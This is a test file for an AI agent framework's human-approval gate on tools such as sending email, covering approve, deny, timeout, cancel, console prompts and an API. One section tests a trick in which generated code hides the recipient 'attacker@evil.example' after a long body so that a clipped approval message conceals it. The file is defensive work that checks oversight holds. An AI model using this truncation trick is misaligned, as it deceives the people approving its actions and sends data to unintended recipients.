"""Approvals (issue 14): a call of a tool declared `"confirm": True` waits for a person; approve → the tool runs
once, deny or no decision → the step gets ToolDenied and nothing happens; a cancel ends the wait. Real agent, real
sandbox steps calling the real tool host, a real tools file whose tool writes to a host file (the side effect)."""

from __future__ import annotations

import asyncio
import json
from pathlib import Path

import pytest

from agent_core.approvals import render_call
from agent_core.events import ApprovalDecided, ApprovalRequested
from tests.conftest import plan, subtask, verdict

TOOLS = '''
import json
SENT = {sent!r}

TOOLS = [{{
    "lib_names": [],
    "instructions": "Send an email.",
    "use_exactly_code_example": True,
    "confirm": True,
    "code_example": """
def send_email(to: str, subject: str, body: str = "") -> dict:
    import json
    with open(SENT, "a") as out:
        out.write(json.dumps({{"to": to, "subject": subject}}) + "\\\\n")
    return {{"sent": True}}
""".replace("SENT", repr(SENT)),
}}]
'''

SEND = subtask("notify", '''
def notify():
    try:
        result = send_email("boss@example.com", subject="Q3 numbers", body="up 4%")
    except ToolDenied as exc:
        return {"sent": False, "why": str(exc)}
    return {"sent": result["sent"]}
''')

SEND_UNCAUGHT = subtask("notify", '''
def notify():
    return send_email("boss@example.com", subject="Q3 numbers")
''')


@pytest.fixture
def mail(tmp_path) -> tuple[Path, Path]:
    sent = tmp_path / "sent.jsonl"
    tools = tmp_path / "tools.py"
    tools.write_text(TOOLS.format(sent=str(sent)))
    return tools, sent


def _sent(path: Path) -> list[dict]:
    return [json.loads(line) for line in path.read_text().splitlines()] if path.exists() else []


def _decide_when_asked(agent, approve: bool, by: str = "alice", after: float = 0.0, seen: list | None = None):
    async def on_event(event):
        if isinstance(event, ApprovalRequested):
            if seen is not None:
                seen.append(event)
            await asyncio.sleep(after)
            agent.approvals.decide(event.run_id, event.number, approve, by)
    agent.events.subscribe(on_event)


async def test_approved_call_runs_the_tool_once(make_agent, llm_server, mail):
    tools, sent = mail
    llm_server.reply_json(plan(SEND))
    llm_server.reply_json(verdict("The email was sent."))
    agent = make_agent(tools_file=tools)
    asked: list[ApprovalRequested] = []
    _decide_when_asked(agent, True, seen=asked)

    result = await agent.run("email the boss the Q3 numbers", "c1")

    assert result.status == "succeeded", result.error
    assert result.steps[0].output == {"sent": True}
    assert _sent(sent) == [{"to": "boss@example.com", "subject": "Q3 numbers"}]
    assert len(asked) == 1 and asked[0].tool == "send_email" and asked[0].number == 1
    assert asked[0].arguments == 'send_email("boss@example.com", subject="Q3 numbers", body="up 4%")'
    [row] = agent.storage.approvals(result.run_id)
    assert row["status"] == "approved" and row["decided_by"] == "alice" and row["decided_at"]
    kinds = [e["type"] for e in agent.storage.events(result.run_id)]
    assert kinds.index("approval_requested") < kinds.index("approval_decided") < kinds.index("step_finished")
    # The planner was told the tool asks first.
    assert "raises ToolDenied" in llm_server.chat_requests()[0]["messages"][0]["content"]


async def test_denied_call_raises_tool_denied_in_the_step_and_sends_nothing(make_agent, llm_server, mail):
    tools, sent = mail
    llm_server.reply_json(plan(SEND))
    llm_server.reply_json(verdict("The email was not sent: it was denied."))
    agent = make_agent(tools_file=tools)
    _decide_when_asked(agent, False, by="bob")

    result = await agent.run("email the boss", "c2")

    assert result.status == "succeeded", result.error
    assert result.steps[0].output == {"sent": False, "why": "send_email was not run: bob denied it"}
    assert _sent(sent) == []
    [row] = agent.storage.approvals(result.run_id)
    assert row["status"] == "denied" and row["decided_by"] == "bob"


async def test_no_decision_in_time_is_a_denial(make_agent, llm_server, mail):
    tools, sent = mail
    llm_server.reply_json(plan(SEND_UNCAUGHT))
    llm_server.reply_json(verdict(ok=False, thoughts="not approved"))
    agent = make_agent(tools_file=tools, approval_timeout=1.0)

    result = await agent.run("email the boss", "c3")

    step = result.steps[0]
    assert not step.ok and step.error.startswith("ToolDenied: send_email was not run: nobody approved it within 1 s")
    assert _sent(sent) == []
    assert agent.storage.approvals(result.run_id)[0]["status"] == "timeout"


async def test_the_step_timeout_does_not_run_while_waiting(make_agent, llm_server, mail):
    tools, sent = mail
    llm_server.reply_json(plan(SEND))
    llm_server.reply_json(verdict("sent"))
    agent = make_agent(tools_file=tools, step_timeout=2)
    _decide_when_asked(agent, True, after=3.0)  # longer than the step may run

    result = await agent.run("email the boss", "c4")

    assert result.steps[0].ok, result.steps[0].error
    assert len(_sent(sent)) == 1


async def test_cancel_while_waiting_ends_the_run_and_sends_nothing(make_agent, llm_server, mail):
    tools, sent = mail
    llm_server.reply_json(plan(SEND))
    agent = make_agent(tools_file=tools)
    asked = asyncio.Event()
    decided: list[ApprovalDecided] = []
    agent.events.subscribe(lambda e: asked.set() if isinstance(e, ApprovalRequested) else
                           decided.append(e) if isinstance(e, ApprovalDecided) else None)

    task = asyncio.create_task(agent.run("email the boss", "c5"))
    await asyncio.wait_for(asked.wait(), 30)
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task

    run = agent.storage.runs_with_status("cancelled")[0]
    assert agent.storage.approvals(run["id"])[0]["status"] == "cancelled"
    assert [d.decision for d in decided] == ["cancelled"]
    assert agent.approvals.decide(run["id"], 1, True, "alice").ok is False  # too late: nothing to approve
    await asyncio.sleep(0.5)
    assert _sent(sent) == []


async def test_first_decision_counts(make_agent, llm_server, mail):
    tools, sent = mail
    llm_server.reply_json(plan(SEND))
    llm_server.reply_json(verdict("sent"))
    agent = make_agent(tools_file=tools)
    answers = []

    async def on_event(event):
        if isinstance(event, ApprovalRequested):
            answers.append(agent.approvals.decide(event.run_id, event.number, True, "alice"))
            answers.append(agent.approvals.decide(event.run_id, event.number, False, "mallory"))
    agent.events.subscribe(on_event)

    await agent.run("email the boss", "c6")

    assert [a.ok for a in answers] == [True, False]
    assert answers[1].message == "Already approved by alice."
    assert len(_sent(sent)) == 1


async def test_waiting_gives_back_the_step_slot(make_agent, llm_server, mail):
    """A run waiting for a person does not hold the only step slot: another run's step runs meanwhile."""
    tools, sent = mail
    other = subtask("quick", "def quick():\n    return {'ok': 1}")
    llm_server.reply_json(plan(SEND))
    agent = make_agent(tools_file=tools, sandbox_slots=1)
    asked = asyncio.Event()
    pending = []

    def on_event(event):
        if isinstance(event, ApprovalRequested):
            pending.append(event)
            asked.set()
    agent.events.subscribe(on_event)

    waiting = asyncio.create_task(agent.run("email the boss", "c7"))
    await asyncio.wait_for(asked.wait(), 30)
    llm_server.reply_json(plan(other))
    llm_server.reply_json(verdict("1"))
    quick = await asyncio.wait_for(agent.run("quick one", "c8"), 30)
    assert quick.status == "succeeded"
    llm_server.reply_json(verdict("sent"))
    agent.approvals.decide(pending[0].run_id, pending[0].number, True, "alice")
    assert (await asyncio.wait_for(waiting, 30)).status == "succeeded"
    assert len(_sent(sent)) == 1


def test_render_call_is_clipped_and_printable():
    text = render_call("send_email", ["a\x1b[31mred"], {"body": "x" * 5000})
    assert "\x1b" not in text and len(text) <= 2000 and text.endswith('x")')
    assert "…[3," in text and "characters hidden]…" in text


# ------------------------------------------------------- the clipped call (issue 21, item 8): nothing hidden at the end
# Generated code put a long body first and the recipient last: the approval text was cut before `to`,
# and Approve sent the mail there. Every argument must be named, with the start and end of each value.
ATTACK_BODY = "Dear team, " + "B" * 5000 + " END-OF-BODY"  # over every platform's limit: clipped everywhere
ATTACK = subtask("notify", f'''
def notify():
    try:
        result = send_email(body={ATTACK_BODY!r}, subject="Q3 numbers", to="attacker@evil.example")
    except ToolDenied as exc:
        return {{"sent": False, "why": str(exc)}}
    return {{"sent": result["sent"]}}
''')
ATTACK_PARTS = [("body", json.dumps(ATTACK_BODY)), ("subject", '"Q3 numbers"'), ("to", '"attacker@evil.example"')]


def shows_the_whole_shape(text: str) -> None:
    """The recipient whole, the body's start and end, and how much of it is not shown."""
    assert 'to="attacker@evil.example"' in text, text
    assert 'body="Dear team, BBB' in text and 'BBB END-OF-BODY"' in text and 'subject="Q3 numbers"' in text
    assert "characters hidden]…" in text


def test_every_renderer_shows_the_last_argument_after_a_long_first_one():
    from bots.console import CALL_CHARS
    from bots.slack_render import SECTION_CHARS, approval_blocks, approval_call
    from bots.telegram_render import MAX_TEXT, approval_text, html_to_plain

    from agent_core import call_text

    shows_the_whole_shape(render_call("send_email", [], {"body": ATTACK_BODY, "subject": "Q3 numbers",
                                                          "to": "attacker@evil.example"}, limit=1000))
    blocks = approval_blocks("r1", 1, "send_email", approval_call("send_email", ATTACK_PARTS), requester="U1",
                             timeout_s=600)
    shows_the_whole_shape(blocks[0]["text"]["text"])
    telegram = html_to_plain(approval_text("send_email", ATTACK_PARTS, "", 600))
    shows_the_whole_shape(telegram)
    shows_the_whole_shape(call_text.fit("send_email", ATTACK_PARTS, CALL_CHARS))  # the console's
    # Many long arguments: all named, each within the platform's limit; Slack's escaping counted.
    many = [(f"field_{i}", json.dumps(f"<&>{i}" * 400 + f"tail{i}")) for i in range(20)] + [("to", '"x@evil.example"')]
    section = approval_blocks("r1", 1, "send_email", approval_call("send_email", many))[0]["text"]["text"]
    assert len(section) <= SECTION_CHARS and 'to="x@evil.example"' in section
    assert all(f"field_{i}=" in section and f'tail{i}"' in section for i in range(20))
    text = html_to_plain(approval_text("send_email", many, "", 600))
    assert len(text.encode("utf-16-le")) // 2 <= MAX_TEXT and 'to="x@evil.example"' in text
    assert all(f"field_{i}=" in text for i in range(20))
    # More arguments than a message can name: it says so instead of cutting silently.
    crowd = [(f"a{i}", json.dumps("v" * 50)) for i in range(400)] + [("to", '"x@evil.example"')]
    fitted = call_text.fit("send_email", crowd, 2000)
    assert len(fitted) <= 2000 and "more arguments not shown: see the whole call on the run page" in fitted


def test_clip_middle_keeps_start_and_end_within_budget():
    from agent_core import call_text

    for size in (50, 200, 5000):
        for budget in (60, 100, 333):
            text = "".join(chr(97 + i % 26) for i in range(size))
            clipped = call_text.clip_middle(text, budget)
            assert len(clipped) <= max(budget, len(text) if len(text) <= budget else budget)
            if len(text) > budget:
                hidden = int(clipped.split("…[")[1].split(" ")[0].replace(",", ""))
                head, tail = clipped.split("…[")[0], clipped.split("]…")[1]
                assert text.startswith(head) and text.endswith(tail) and len(head) + len(tail) + hidden == size


def test_confirm_is_refused_on_a_library_tool(tmp_path):
    from tools.declarations import ToolError, tool_from_dict

    with pytest.raises(ToolError, match="confirm applies to exact tools"):
        tool_from_dict({"lib_name": ["numpy"], "confirm": True})
    with pytest.raises(ToolError, match="confirm must be true or false"):
        tool_from_dict({"use_exactly_code_example": True, "code_example": "def f():\n    pass", "confirm": "yes"})


# ------------------------------------------------------------------------- the console: y/N, --yes, end of input
REPO = Path(__file__).resolve().parents[1]


def _cli_environ(tmp_path, llm_server, **extra: str) -> dict[str, str]:
    """The environment of an `autocode` subprocess on the scripted LLM and a database of its own."""
    import os

    environ = {k: v for k, v in os.environ.items() if not k.startswith(("OPENAI_", "AUTOCODE_"))}
    environ.update(AUTOCODE_DB=str(tmp_path / "cli.db"), AUTOCODE_LLM_MAX_RETRIES="0", PYTHONPATH=str(REPO),
                   OPENAI_BASE_URL=llm_server.base_url, OPENAI_API_KEY="sk-cli", AUTOCODE_MODEL="fake-model",
                   AUTOCODE_SANDBOX_WARM="0", **extra)
    return environ


def _cli(tmp_path, llm_server, tools, *args, stdin: str = ""):
    import subprocess
    import sys

    environ = _cli_environ(tmp_path, llm_server)
    return subprocess.run([sys.executable, "-P", "-m", "agent_core.cli", "run", "--tools", str(tools), *args],
                          cwd=tmp_path, env=environ, input=stdin, capture_output=True, text=True, timeout=120)


@pytest.mark.parametrize("answer, sent_count, output", [
    ("y\n", 1, '"sent": true'),
    ("n\n", 0, "console denied it"),
    ("", 0, "console denied it"),  # end of input: nobody said yes
])
def test_console_asks_y_n(tmp_path, llm_server, mail, answer, sent_count, output):
    tools, sent = mail
    llm_server.reply_json(plan(SEND))
    llm_server.reply_json(verdict("done"))
    proc = _cli(tmp_path, llm_server, tools, "email the boss", stdin=answer)
    assert proc.returncode == 0, proc.stderr
    assert 'send_email needs your approval: send_email("boss@example.com", subject="Q3 numbers"' in proc.stderr
    assert "Approve send_email? [y/N]" in proc.stderr
    assert len(_sent(sent)) == sent_count
    evaluator_prompt = json.dumps(llm_server.chat_requests()[1])
    assert output.replace('"', '\\"') in evaluator_prompt


def test_console_no_answer_in_time_is_a_denial_and_the_command_ends(tmp_path, llm_server, mail):
    """A terminal nobody answers (stdin open, silent): the call is denied after AUTOCODE_APPROVAL_TIMEOUT and
    `autocode run` finishes; the unanswered prompt holds nothing up."""
    import os
    import subprocess
    import sys

    tools, sent = mail
    llm_server.reply_json(plan(SEND))
    llm_server.reply_json(verdict("done"))
    environ = _cli_environ(tmp_path, llm_server, AUTOCODE_APPROVAL_TIMEOUT="1")
    silent, keep_open = os.pipe()  # the terminal's input: open, and nobody types anything
    with open(tmp_path / "err.txt", "w") as errors:
        proc = subprocess.Popen([sys.executable, "-P", "-m", "agent_core.cli", "run", "--tools", str(tools),
                                 "email the boss"], cwd=tmp_path, env=environ, stdin=silent,
                                stdout=subprocess.DEVNULL, stderr=errors)
    os.close(silent)
    try:
        proc.wait(timeout=60)
    except subprocess.TimeoutExpired:
        proc.kill()
        proc.wait()
    finally:
        os.close(keep_open)
    err = (tmp_path / "err.txt").read_text()
    assert proc.returncode == 0, err
    assert "Approve send_email? [y/N] \n· send_email: no answer in time: denied" in err
    assert _sent(sent) == []
    assert "nobody approved it within 1 s" in json.dumps(llm_server.chat_requests()[1])


def test_chat_asks_in_turn_with_its_own_input(tmp_path, llm_server, mail):
    """`autocode chat`: the line after a task answers its approval, the next one is the next task."""
    import subprocess
    import sys

    tools, sent = mail
    llm_server.reply_json(plan(SEND))
    llm_server.reply_json(verdict("done"))
    environ = _cli_environ(tmp_path, llm_server, AUTOCODE_TOOLS=str(tools))
    proc = subprocess.run([sys.executable, "-P", "-m", "agent_core.cli", "chat"], cwd=tmp_path, env=environ,
                          input="email the boss\ny\n/exit\n", capture_output=True, text=True, timeout=120)
    assert proc.returncode == 0, proc.stderr
    assert "Approve send_email? [y/N] " in proc.stdout and "send_email: approved by console" in proc.stdout
    assert len(_sent(sent)) == 1 and len(llm_server.chat_requests()) == 2  # "/exit" was no task


def test_console_yes_approves_without_asking(tmp_path, llm_server, mail):
    tools, sent = mail
    llm_server.reply_json(plan(SEND))
    llm_server.reply_json(verdict("done"))
    proc = _cli(tmp_path, llm_server, tools, "--yes", "email the boss")
    assert proc.returncode == 0, proc.stderr
    assert "[y/N]" not in proc.stderr and "send_email: approved by console (--yes)" in proc.stderr
    assert len(_sent(sent)) == 1
    import sqlite3
    run_id = sqlite3.connect(tmp_path / "cli.db").execute("SELECT id FROM runs").fetchone()[0]
    import subprocess
    import sys
    show = subprocess.run([sys.executable, "-P", "-m", "agent_core.cli", "show", run_id], cwd=tmp_path,
                          env={"AUTOCODE_DB": str(tmp_path / "cli.db"), "PYTHONPATH": str(REPO), "PATH": "/usr/bin:/bin"},
                          capture_output=True, text=True, timeout=60)
    assert 'Approvals:\n  #1 send_email("boss@example.com", subject="Q3 numbers", body="up 4%"): approved by ' \
        'console (--yes)' in show.stdout, show.stdout + show.stderr


# ------------------------------------------------------------------------- the internal API of `autocode serve`
def test_api_decides_an_approval(tmp_path, llm_server, mail):
    import time

    from tests.server_helpers import Serve, serve_env

    tools, sent = mail
    llm_server.reply_json(plan(SEND))
    llm_server.reply_json(verdict("sent"))
    env = serve_env(llm_server, tmp_path / "serve.db", AUTOCODE_TOOLS=str(tools), AUTOCODE_API_TOKEN="tok-1")
    server = Serve(env, tmp_path / "serve.log", tmp_path)
    try:
        server.wait_ready()
        auth = {"Authorization": "Bearer tok-1"}
        run_id = server.http.post("/api/runs", json={"task": "email the boss"}, headers=auth).json()["run_id"]
        deadline = time.monotonic() + 60
        while True:
            run = server.http.get(f"/api/runs/{run_id}", headers=auth).json()
            if run["approvals"] or time.monotonic() > deadline:
                break
            time.sleep(0.1)
        assert run["status"] == "running" and run["approvals"][0]["status"] == "pending", server.log_tail()
        assert run["approvals"][0]["arguments"].startswith('send_email("boss@example.com"')
        assert _sent(sent) == []
        path = f"/api/runs/{run_id}/approvals/1"
        assert server.http.post(path, json={"approve": True}).status_code == 401  # the API token is needed
        assert server.http.post(path, json={"approve": "yes"}, headers=auth).status_code == 400
        assert server.http.post(f"/api/runs/{run_id}/approvals/9", json={"approve": True},
                                headers=auth).status_code == 404
        answer = server.http.post(path, json={"approve": True, "by": "ops"}, headers=auth)
        assert answer.status_code == 200 and answer.json()["decision"] == "approved"
        assert server.http.post(path, json={"approve": False}, headers=auth).status_code == 409  # decided already
        while run["status"] == "running" and time.monotonic() < deadline:
            time.sleep(0.1)
            run = server.http.get(f"/api/runs/{run_id}", headers=auth).json()
        assert run["status"] == "succeeded", server.log_tail()
        assert run["approvals"][0]["status"] == "approved" and run["approvals"][0]["decided_by"] == "api:ops"
        assert len(_sent(sent)) == 1
    finally:
        server.close()


async def test_the_run_page_shows_who_decided_what(make_agent, llm_server, mail):
    from tests.test_direct_answers import _run_page

    tools, sent = mail
    llm_server.reply_json(plan(SEND))
    llm_server.reply_json(verdict("sent"))
    agent = make_agent(tools_file=tools)
    _decide_when_asked(agent, True, by="slack:T1:UALICE")

    result = await agent.run("email the boss", "c9")

    page = _run_page(agent, result.run_id)
    assert "Approvals" in page and "approved by slack:T1:UALICE" in page
    assert "send_email(&#34;boss@example.com&#34;" in page or "send_email(&quot;boss@example.com&quot;" in page


async def test_the_attack_is_shown_whole_on_the_run_page_and_fitted_in_the_event(make_agent, llm_server, mail):
    from tests.test_direct_answers import _run_page

    tools, sent = mail
    llm_server.reply_json(plan(ATTACK))
    llm_server.reply_json(verdict("not sent"))
    agent = make_agent(tools_file=tools)
    asked: list[ApprovalRequested] = []
    _decide_when_asked(agent, False, by="alice", seen=asked)

    result = await agent.run("email the team", "c-attack")

    assert _sent(sent) == []
    shows_the_whole_shape(asked[0].arguments)
    assert list(asked[0].call) == ATTACK_PARTS
    [row] = agent.storage.approvals(result.run_id)
    whole = f'send_email(body={json.dumps(ATTACK_BODY)}, subject="Q3 numbers", to="attacker@evil.example")'
    assert row["arguments"] == whole  # stored whole (the API returns it)
    page = _run_page(agent, result.run_id)
    assert ATTACK_BODY in page and "attacker@evil.example" in page and "characters hidden" not in page


def test_console_shows_the_last_argument_after_a_long_first_one(tmp_path, llm_server, mail):
    tools, sent = mail
    llm_server.reply_json(plan(ATTACK))
    llm_server.reply_json(verdict("done"))
    proc = _cli(tmp_path, llm_server, tools, "email the team", stdin="n\n")
    assert proc.returncode == 0, proc.stderr
    [line] = [line for line in proc.stderr.splitlines() if "send_email needs your approval" in line]
    shows_the_whole_shape(line)
    assert _sent(sent) == []
